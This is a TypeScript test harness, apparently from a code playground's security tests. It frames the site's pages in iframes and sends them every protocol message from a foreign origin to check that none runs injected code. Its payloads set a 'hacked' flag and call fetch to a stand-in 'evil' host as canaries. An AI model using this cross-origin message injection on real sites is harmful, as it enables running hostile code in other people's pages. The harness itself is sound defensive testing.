/** A file to frame, and the sandbox of its frame, if any. */
export type Framing = { file: string; sandbox: string | undefined };

/**
 * Runs in a page of another origin or, to prove that the messages are valid, of the site: frames
 * files and sends every message of the protocol to each, by the window and by ports.
 * @returns the answers, and what ran
 */
export async function frameFiles(text: string): Promise<string> {
  type Given = { site: string; evil: string; framings: Framing[]; awaited: string[] };
  const { site, evil, framings, awaited }: Given = JSON.parse(text);
  const heard: string[] = [];
  const hear = (by: string) => heard.push(by);
  const code = `globalThis.localStorage?.setItem('hacked', '1'); fetch('${evil}/ran'); export default () => null;`;
  const script = new Blob([`postMessage('ran'); fetch('${evil}/ran');`]);
  const hostile = new Blob([
    `onmessage = ({ ports: [port] }) => { port.postMessage('ran'); fetch('${evil}/ran'); }`,
  ]);
  const file = { name: 'App.tsx', code };
  const react = `fetch('${evil}/ran').catch(() => {}); export const React = { Component: Object }, jsxRuntime = {};`;
  const messages = [
    { kind: 'react', script: new Blob([react], { type: 'text/javascript' }) },
    {
      kind: 'run',
      run: 1,
      modules: [{ ...file, imports: [], importMark: 'import-0123456789abcdef:' }],
      css: '',
      dark: false,
    },
    { kind: 'dark', dark: true },
    { kind: 'ping' },
    { id: 1, files: [file], mode: 'production' },
    { id: 1, parse: file },
    { kind: 'playground:script', script },
    'playground:failed',
    'playground:port',
    'ready',
    { kind: 'ready' },
    { kind: 'shown', run: 1 },
  ];
  /** The messages that open a conversation, each with its own port. */
  const openings = ['playground:port', { kind: 'playground:script', script: hostile }];
  const send = (target: Window, name: string) => {
    for (const opening of openings) {
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = ({ data }) => hear(`${name} by a port: ${JSON.stringify(data)}`);
      target.postMessage(opening, '*', [port2]);
      for (const message of messages) port1.postMessage(message);
    }
    for (const message of messages) target.postMessage(message, '*');
  };
  const frameFile = async ({ file: name, sandbox }: Framing) => {
    const frame = document.createElement('iframe');
    if (sandbox !== undefined) frame.setAttribute('sandbox', sandbox);
    frame.src = `${site}/${name}`;
    const loaded = new Promise((resolve) => {
      frame.onload = resolve;
    });
    const told = `${name} (${sandbox ?? 'no sandbox'})`;
    const onMessage = ({ source, data }: MessageEvent) => {
      if (source === frame.contentWindow) hear(`${told} by its window: ${JSON.stringify(data)}`);
    };
    addEventListener('message', onMessage);
    document.body.append(frame);
    await loaded;
    if (frame.contentWindow) send(frame.contentWindow, told);
    return { frame, onMessage };
  };
  // A few at a time, for as long as a page of the site takes to answer its own frame.
  while (framings.length > 0) {
    const framed = await Promise.all(framings.splice(0, 8).map(frameFile));
    await new Promise((resolve) => setTimeout(resolve, 400));
    for (let n = 0; n < 1000 && awaited.some((line) => !heard.includes(line)); n += 1) {
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    for (const { frame, onMessage } of framed) {
      frame.remove();
      removeEventListener('message', onMessage);
    }
  }
  return JSON.stringify(heard);
}
